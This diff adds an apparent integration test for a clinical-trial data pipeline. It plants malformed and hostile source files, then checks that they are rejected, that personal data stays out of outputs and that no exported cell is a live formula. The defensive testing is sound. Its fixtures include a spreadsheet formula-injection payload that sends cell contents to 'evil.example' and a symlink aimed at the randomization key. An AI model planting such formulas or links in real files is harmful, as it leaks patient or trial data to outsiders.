@@ -1,0 +1,146 @@
+"""Issue #10 through the whole nightly job: a generated first night, then a second night in which
+every source sends something hostile or careless. The run succeeds, each bad transfer is rejected
+(or held) with a reason and a finding, the good ones load, nothing personal reaches any output, no
+exported cell is a live formula, and nothing outside the landing zone is archived."""
+import csv
+import json
+import shutil
+
+import dagster as dg
+import openpyxl
+import pandas as pd
+import pytest
+
+from aclf.archive import archive_path
+from aclf.landing import sha256_of
+from aclf.store import make_engine
+from pipelines.nightly import run_nightly
+from support import generated_night, read_table, write_manifest
+from validation.cells import FORMULA_TRIGGERS
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def _personal(settings, night: str) -> set[str]:
+    site01 = pd.read_csv(settings.landing / "site01" / f"SITE01_{night}.csv", dtype=str, encoding="utf-8-sig")
+    enrol = pd.read_csv(settings.landing / "edc" / f"EDC_{night}" / "enrollment.csv", dtype=str)
+    values = [*site01["PATIENT_NAME"], *site01["MRN"], *enrol["PATIENT_NAME"], *enrol["PHONE"], *enrol["ID_CARD_NO"]]
+    return {v for v in values if isinstance(v, str) and len(v) >= 4}
+
+
+def _plant_second_night(settings, night: str, next_night: str) -> dict[str, str]:
+    land = settings.landing
+    names = {}
+    # 1. site01 without its header row
+    lines = (land / "site01" / f"SITE01_{night}.csv").read_bytes().split(b"\r\n")
+    names["site01"] = f"SITE01_{next_night}.csv"
+    (land / "site01" / names["site01"]).write_bytes(b"\xef\xbb\xbf" + b"\r\n".join(lines[1:]))
+    # 2. site04: a 31-digit result, a NUL byte in a test name (reaches the site's query listing)
+    text = (land / "site04" / f"SITE04_{night}.txt").read_text(encoding="utf-8").split("\n")
+    cells = text[1].split("\t")
+    cells[8] = "1234567890123456789012345678901"
+    cells2 = text[2].split("\t")
+    cells2[7] = "Sodium\x00X"
+    text[1], text[2] = "\t".join(cells), "\t".join(cells2)
+    names["site04"] = f"SITE04_{next_night}.txt"
+    (land / "site04" / names["site04"]).write_text("\n".join(text), encoding="utf-8")
+    # 2/8. IWRS header-only: held as truncated
+    header = (land / "iwrs" / f"IWRS_{night}.csv").read_text().split("\n")[0]
+    names["iwrs"] = f"IWRS_{next_night}.csv"
+    (land / "iwrs" / names["iwrs"]).write_text(header + "\n")
+    # 2. site05: its manifest is a directory
+    names["site05"] = f"SITE05_{next_night}.sav"
+    shutil.copyfile(land / "site05" / f"SITE05_{night}.sav", land / "site05" / names["site05"])
+    (land / "site05" / (names["site05"] + ".sha256")).mkdir()
+    # 4. site03: a symlink to the randomization key
+    key = next((land / "iwrs_key").glob("RANDKEY_*.csv"))
+    names["site03"] = f"SITE03_{next_night}.xlsx"
+    (land / "site03" / names["site03"]).symlink_to(key)
+    # 6. site02: a transfer dated in the future
+    names["site02"] = "SITE02_20991231.csv"
+    shutil.copyfile(land / "site02" / f"SITE02_{night}.csv", land / "site02" / names["site02"])
+    # 5/9. EDC: a formula as a SUBJID and a partial onset date
+    folder = land / "edc" / f"EDC_{next_night}"
+    shutil.copytree(land / "edc" / f"EDC_{night}", folder)
+    (folder / "MANIFEST.sha256").unlink()
+    with (folder / "enrollment.csv").open("a", encoding="utf-8", newline="") as fh:
+        csv.writer(fh).writerow([FORMULA, "01", "", "", "", "", "", "", "", "", "x", "1", "2"])
+    mh = pd.read_csv(folder / "medical_history.csv", dtype=str, keep_default_na=False)
+    mh.loc[0, "ACLF_ONSET_DATE"] = mh.loc[0, "ACLF_ONSET_DATE"][:7]
+    mh.to_csv(folder / "medical_history.csv", index=False)
+    names["edc"] = folder.name
+    for name in ("site01", "site04", "iwrs", "site02"):
+        write_manifest(land / name / names[name])
+    write_manifest(folder)
+    return names
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    root = tmp_path_factory.mktemp("hostile")
+    with generated_night(root, subjects=12, seed=3) as (settings, summary, url):
+        night = summary.nights[0].replace("-", "")
+        next_night = (pd.Timestamp(summary.nights[0]) + pd.Timedelta(days=1)).strftime("%Y%m%d")
+        personal = _personal(settings, night)
+        names = _plant_second_night(settings, night, next_night)
+        result = run_nightly(settings, instance=dg.DagsterInstance.ephemeral())
+        engine = make_engine(url)
+        yield settings, result, names, personal, engine
+        engine.dispose()
+
+
+def test_the_night_succeeds_and_each_bad_transfer_is_rejected_with_its_reason(hostile):
+    settings, result, names, _, engine = hostile
+    assert result.success, result.failures
+    transfers = read_table(engine, "transfer").set_index("name")
+    expect = {
+        "site01": "row 1: the header row lacks the required column(s) SUBJECT_NO",
+        "iwrs": "held as possibly truncated: it holds 0 records",
+        "site05": "manifest SITE05_",
+        "site03": "is a symbolic link; links are never followed",
+        "site02": "in the name is later than the run's date allows",
+    }
+    for source, said in expect.items():
+        row = transfers.loc[names[source]]
+        assert row["status"] == "rejected" and said in row["reason"], (source, row["reason"])
+    for source in ("site04", "edc"):
+        assert transfers.loc[names[source], "status"] == "loaded"
+    report = json.loads((settings.output / "run_report.json").read_text())
+    assert {t["file"] for t in report["transfers"] if t["status"] == "rejected"} >= {names[s] for s in expect}
+    findings = pd.read_csv(settings.output / "findings" / "findings.csv", dtype=str, keep_default_na=False)
+    rejected = findings[findings["rule"] == "transfer_rejected"]
+    assert {names[s] for s in expect} <= set(rejected["file"])
+
+
+def test_nothing_personal_and_nothing_outside_reaches_any_output(hostile):
+    settings, _, _, personal, engine = hostile
+    assert personal
+    texts = [read_table(engine, t).to_json(force_ascii=False) for t in ("transfer", "quarantine")]
+    texts.append(pd.read_sql_table("finding", engine).to_json(force_ascii=False))
+    texts.append((settings.output / "run_report.json").read_text(encoding="utf-8"))
+    texts.append((settings.output / "findings" / "findings.csv").read_text(encoding="utf-8-sig"))
+    for book in (settings.output / "findings").glob("*.xlsx"):
+        sheet = openpyxl.load_workbook(book).active
+        texts.append(json.dumps([[c.value for c in row] for row in sheet.iter_rows()], ensure_ascii=False, default=str))
+    leaked = [v for v in personal if any(v in t for t in texts)]
+    assert not leaked
+    key = next((settings.landing / "iwrs_key").glob("RANDKEY_*.csv"))
+    assert not archive_path(settings.archive, sha256_of(key)).exists()
+
+
+def test_no_exported_cell_is_a_live_formula(hostile):
+    settings, *_ = hostile
+    with (settings.output / "findings" / "findings.csv").open(encoding="utf-8-sig", newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
+    assert any(FORMULA in c for c in cells)                                 # the planted one reached it
+    listing = openpyxl.load_workbook(settings.output / "findings" / "site04_queries.xlsx").active
+    values = [c for row in listing.iter_rows() for c in row]
+    assert not [c for c in values if c.data_type == "f"]
+    assert any("Sodium\ufffdX" in str(c.value) for c in values)             # the NUL did not stop the listing
+
+
+def test_a_partial_onset_date_is_no_finding(hostile):
+    settings, *_ = hostile
+    findings = pd.read_csv(settings.output / "findings" / "findings.csv", dtype=str, keep_default_na=False)
+    assert not findings["message"].str.contains("ACLF_ONSET_DATE").any()
